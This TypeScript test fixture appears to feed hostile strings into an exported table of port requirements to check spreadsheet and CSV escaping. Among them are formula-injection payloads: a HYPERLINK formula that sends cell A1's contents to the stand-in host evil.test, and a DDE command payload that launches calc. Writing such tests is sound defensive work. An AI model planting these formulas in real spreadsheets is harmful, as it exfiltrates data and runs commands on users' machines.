import type { Line } from '../../src/answer/answer';
import type { Tabular } from '../../src/presentation/files/report';
import { tabular } from './tabular';

/** What a catalog of somebody else's may hold as a purpose. */
export const hostileTexts = [
  '=1+1',
  '=HYPERLINK("http://evil.test/?"&A1;"click")',
  '+SUM(A1:A9)',
  '-2+3',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '＝1+1',
  "'=1+1",
  '"quoted", and, commas',
  ';semicolons;',
  '<!channel> & <b>bold</b> ]]>',
  '1/2',
  '5-6',
  '00080',
  '1E5',
  'TRUE',
  '중재 서버 🔥',
  'x'.repeat(1_000),
];

/** The answer about mediation, with these texts as the purposes of as many lines. */
export function hostileAnswer(): Tabular {
  const answer = tabular('all ports as xlsx');
  if (answer.kind !== 'requirements') throw new Error('all ports are requirements');
  let count = 0;
  const hostile = (line: Line): Line => {
    const text = hostileTexts[count % hostileTexts.length] ?? '';
    count += 1;
    const [first, ...rest] = line.rows.map((row) => ({ ...row, purpose: { en: text, ko: text }, sourcePorts: false }));
    return { ...line, rows: [first!, ...rest] };
  };
  const sections = answer.sections.map((section) => ({
    ...section,
    groups: section.groups.map((group) => ({ ...group, lines: group.lines.map(hostile) })),
  }));
  return { ...answer, sections };
}
